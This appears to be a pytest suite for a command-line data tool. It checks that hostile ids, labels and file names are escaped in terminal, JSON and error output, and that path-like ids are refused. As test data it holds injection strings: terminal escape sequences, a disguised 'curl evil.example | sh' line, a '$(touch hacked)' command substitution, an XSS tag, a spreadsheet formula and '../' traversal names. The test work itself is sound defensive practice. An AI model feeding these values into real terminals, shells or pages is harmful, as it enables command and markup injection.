"""Ids, labels, subjects and column names are data: they never act as terminal commands, paths or markup."""

from __future__ import annotations

import csv
import json
import logging
import os
import pty
import subprocess
from collections.abc import Sequence
from pathlib import Path

import bad_inputs
import pandas as pd
import pytest
import typer
from program import PROGRAM, TINY, Result, invoke

from pdmr_classic import load_dataset
from pdmr_classic.cli import _console
from pdmr_classic.errors import DataError, Finding
from pdmr_classic.progress import LogReporter
from pdmr_classic.reporting.tables import prediction_table
from pdmr_classic.text import escape_unprintable, to_json

HOSTILE = (
    "\x1b[31mRED",
    "\x1b]0;title\x07",
    "\x9b31mC1",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\".replace("/", "").replace("\\", ""),
    "[red]x",
    "[link=https:evil.example]x",
    ":warning:",
    "a\n  hint:     curl evil.example | sh",
    "back\rto the start",
    "\b\b\b",
    "\u202egnp.exe",
    "\u2066x",
    "zero\u200bwidth",
    "\u2028line",
    "😀",
    "q\"u'ote`id`",
    "$(touch hacked);touch hacked",
    "=HYPERLINK(1)",
    "<script>alert(1)<script>",
    "%s%n{0}{data_id}",
    "--help",
    "a, b",
)
POSITIVE, NEGATIVE = "\x1b[31m[red]sad[/red]\u202e", "[/red]:warning:\n\x9b1mwell/../"
CLASS_OPTION = ("--positive", POSITIVE)


def is_safe(text: str) -> bool:
    return all(line.isprintable() for line in text.split("\n"))


def check_result(result: Result, code: int = 0) -> Result:
    assert result.exit_code == code, result.output
    for text in (result.stdout, result.stderr):
        assert is_safe(text), ascii(text)
    return result


def write_csv(path: Path, rows: Sequence[Sequence[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(rows)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with a set in which every file name, subject, label and channel is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "tiny.toml").write_text(TINY)
    rows = [["data_id", "status", "subject_id", "\x1b[2J[blink]"]]
    for number, data_id in enumerate(HOSTILE):
        bad_inputs.write_recording(folder / "train", data_id)
        path = folder / "train" / "video" / f"{data_id}.csv"
        table = list(csv.reader(path.read_text().splitlines()))
        table[0][-1], table[0][-2] = "\x1b]0[red]\u202echannel", "../../AU12_r"
        write_csv(path, table)
        rows.append([data_id, (POSITIVE, NEGATIVE)[number % 2], f"\x1b[3{number}m", "\x07"])
    write_csv(folder / "train" / "labels.csv", rows)
    for data_id in HOSTILE:
        bad_inputs.write_recording(folder / "test", data_id, seed="test")
    check_result(invoke("fit", "train", "--config", "tiny.toml", "--out", "m.joblib", *CLASS_OPTION, cwd=folder))
    return folder


COMMANDS = (
    ("check", "train", *CLASS_OPTION),
    ("extract", "train", "--out", "f.parquet"),
    ("predict", "test", "--model", "m.joblib", "--out", "r.jsonl", "--proba"),
    ("score", "r.jsonl", "train/labels.csv", *CLASS_OPTION),
    ("evaluate", "train", "--config", "tiny.toml", "--folds", "2", "--repeats", "1", "--by", "status", *CLASS_OPTION),
)


@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: command[0])
def test_every_verb_prints_escaped_names_and_exact_names_in_json(hostile: Path, command: tuple[str, ...]) -> None:
    before, siblings = set(hostile.rglob("*")), set(hostile.parent.iterdir())
    if command[0] == "score":
        invoke(*COMMANDS[2], cwd=hostile)
    text = check_result(invoke(*command, cwd=hostile)).stdout
    report = json.loads(check_result(invoke(*command, "--json", cwd=hostile)).stdout)
    if command[0] in ("check", "predict"):
        classes = report["predicted"] if command[0] == "predict" else report["splits"]["train"]["classes"]
        assert classes
        assert set(classes) <= {POSITIVE, NEGATIVE}
        # The recordings are noise: one class may not be predicted.
        assert command[0] == "predict" or set(classes) == {POSITIVE, NEGATIVE}
        assert all(escape_unprintable(label) in text for label in classes)
    names = {path.name for path in set(hostile.rglob("*")) - before}
    assert names <= {"f.parquet", "r.jsonl", "r.notes.json", "evaluation.json"}
    assert set(hostile.parent.iterdir()) == siblings


def test_results_and_features_contain_the_exact_names(hostile: Path) -> None:
    check_result(invoke(*COMMANDS[2], cwd=hostile))
    text = (hostile / "r.jsonl").read_text(encoding="utf-8")
    assert is_safe(text), "the file must be safe to print with `cat`"
    results = [json.loads(line) for line in text.split("\n")[:-1]]
    assert [result["data_id"] for result in results] == sorted(HOSTILE)
    assert {result["status"] for result in results} <= {POSITIVE, NEGATIVE}
    check_result(invoke(*COMMANDS[1], cwd=hostile))
    assert sorted(pd.read_parquet(hostile / "f.parquet")["data_id"]) == sorted(HOSTILE)


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("video/{}.csv", b"", "empty"),
        ("video/{}.csv", b"frame,\x1b[31m[red]\xe2\x80\xaex\n1,2\n2,smile\x1b[2J\n", "text-in-number-column"),
        ("video/{}.csv", b"\x1b[2J,\x1b[2J\n1,2\n", "duplicate-columns"),
        ("video/{}.csv", b"\x1b[2J,\x07\n1\n", "short-row"),
        ("audio/{}.csv", b"\x1b[2J\nx\x07\n", "no-numbers"),
    ],
)
@pytest.mark.parametrize("data_id", ["\x1b[31m[red]bad\u202e", "a\nerror: all is lost", "q\"u'\x9bo"])
def test_errors_print_each_escaped_name_on_one_line(
    tmp_path: Path, name: str, content: bytes, code: str, data_id: str
) -> None:
    bad_inputs.write_set(tmp_path / "set")
    path = tmp_path / "set" / name.format(data_id)
    path.write_bytes(content)
    with (tmp_path / "set" / "labels.csv").open("a", newline="") as file:
        csv.writer(file).writerow([data_id, "Normal", "S9"])
    for verb in ("extract", "fit", "check"):
        result = check_result(invoke(verb, "set", cwd=tmp_path), 3)
        lines = result.stderr.splitlines()
        assert sum(line.startswith("error:") for line in lines) == (verb != "check")
        assert verb == "check" or any(
            escape_unprintable(path.name) in line for line in lines if line.startswith("  where:")
        )
    (error,) = json.loads(check_result(invoke("check", "set", "--json", cwd=tmp_path), 3).stdout)["errors"]
    assert (error["code"], Path(error["file"]).name) == (code, path.name)


@pytest.mark.parametrize(
    "rows",
    [
        [["\x1b[2Ja", "Normal", "\x1b[2J"], ["\x1b[2Ja", "Depression", "\x1b[2J"]],
        [["../\x1b[2J\u202e", "Normal", "S"]],
        [["000", "\x1b[31mNormal", "S"], ["001", "Normal", "S"], ["002", "Depression", "S2"]],
        [["\x1b[2J", "Normal", "S"]],
        [["000", "Normal\x1b[2J", "S"]],
    ],
)
def test_errors_in_labels_are_printed_escaped(tmp_path: Path, rows: list[list[str]]) -> None:
    bad_inputs.write_set(tmp_path / "set")
    write_csv(tmp_path / "set" / "labels.csv", [["data_id", "status", "subject_id"], *rows])
    for verb in ("fit", "check"):
        check_result(invoke(verb, "set", cwd=tmp_path), 3)


def test_a_folder_with_any_name_can_be_read_and_written(tmp_path: Path) -> None:
    folder = tmp_path / os.fsdecode(b"caf\xe9 \x1b[31m\n[red]")
    bad_inputs.write_set(folder)
    (tmp_path / "tiny.toml").write_text(TINY)
    for verb, *args in (
        ("check",),
        ("extract", "--out", folder / "f.parquet"),
        ("fit", "--config", "tiny.toml", "--out", folder / "m.joblib"),
        ("predict", "--model", folder / "m.joblib", "--out", folder / "r.jsonl", "--allow-overlap"),
    ):
        check_result(invoke(verb, folder, *args, cwd=tmp_path))
        check_result(invoke(verb, folder, *args, "--json", cwd=tmp_path))


def test_an_internal_error_and_its_traceback_are_printed_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    @_console.handle_errors
    def fail(debug: bool = False) -> None:
        raise RuntimeError("\x1b[2J")

    with pytest.raises(typer.Exit) as exit_info:
        fail(debug=True)
    assert exit_info.value.exit_code == 1
    printed = capsys.readouterr().err
    assert is_safe(printed)
    assert printed.count("RuntimeError: \\x1b[2J") == 2


def test_names_cannot_send_escape_sequences_to_a_terminal(hostile: Path) -> None:
    payloads = [name.encode() for name in (*HOSTILE, POSITIVE, NEGATIVE) if not is_safe(name)]
    for command in (COMMANDS[0], COMMANDS[2]):
        output = run_on_terminal(*command, cwd=hostile)
        assert b"\x1b[" in output, "the program must detect the terminal"
        for payload in payloads:
            assert payload not in output


def run_on_terminal(*args: str, cwd: Path) -> bytes:
    """Run the program on a pseudo-terminal and return everything it prints."""
    parent_end, child_end = pty.openpty()
    environment = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "80"}
    process = subprocess.Popen(
        [PROGRAM, *args], cwd=cwd, env=environment, stdin=child_end, stdout=child_end, stderr=child_end
    )
    os.close(child_end)
    output = b""
    try:
        while block := os.read(parent_end, 1 << 16):
            output += block
    except OSError:  # the program has closed its end
        pass
    os.close(parent_end)
    assert process.wait(300) == 0, output
    return output


# ---------------------------------------------------------------------------------------------- escaping


@pytest.mark.parametrize("text", [*HOSTILE, POSITIVE, NEGATIVE, "\udce9", "\U000e0001", "\xa0", "\x00"])
def test_escaped_text_is_one_printable_line_and_json_round_trips(text: str) -> None:
    assert escape_unprintable(text).isprintable()
    assert escape_unprintable(escape_unprintable(text)) == escape_unprintable(text)
    assert to_json({text: [text]}).isprintable()
    assert json.loads(to_json({text: [text]}, indent=2)) == {text: [text]}


def test_printable_text_is_not_changed() -> None:
    for text in ("Größe, naïve, 深い, 😀, [red]x[/red]", ""):
        assert escape_unprintable(text) == text
        assert to_json(text) == f'"{text}"'


def test_nan_cannot_be_written_as_json() -> None:
    with pytest.raises(ValueError, match="not JSON compliant"):
        to_json(float("nan"))


def test_every_part_of_a_finding_is_printed_escaped(caplog: pytest.LogCaptureFixture) -> None:
    text = "\x1b[2J\n  hint:     x"
    finding = Finding("x", text, file=text, row=1, column=text, expected=text, found=text, hint=text)
    for printed in (str(finding), str(DataError(finding))):
        assert is_safe(printed)
        assert len(printed.splitlines()) == 5
    with caplog.at_level(logging.DEBUG, "pdmr_classic"):
        LogReporter().note(finding)
    assert len(caplog.messages) == 2
    assert all(map(is_safe, caplog.messages))


def test_tables_show_markup_as_text(capsys: pytest.CaptureFixture[str]) -> None:
    summary = {"predicted": {"[red]x[/red]": 1, "\x1b[31m:warning:": 2}, "out": "[bold]/r.jsonl", "synthetic": False}
    _console.show(summary, False, prediction_table)
    printed = capsys.readouterr().out
    for text in ("[red]x[/red]", "\\x1b[31m:warning:", "Written: [bold]/r.jsonl"):
        assert text in printed


def test_an_id_that_is_a_path_is_refused(tmp_path: Path) -> None:
    bad_inputs.write_set(tmp_path / "set")
    with (tmp_path / "set" / "labels.csv").open("a") as file:
        file.write("../../planted,Normal,../../planted\n")
    with pytest.raises(DataError, match="a data_id in the label table is not valid"):
        load_dataset(tmp_path / "set")
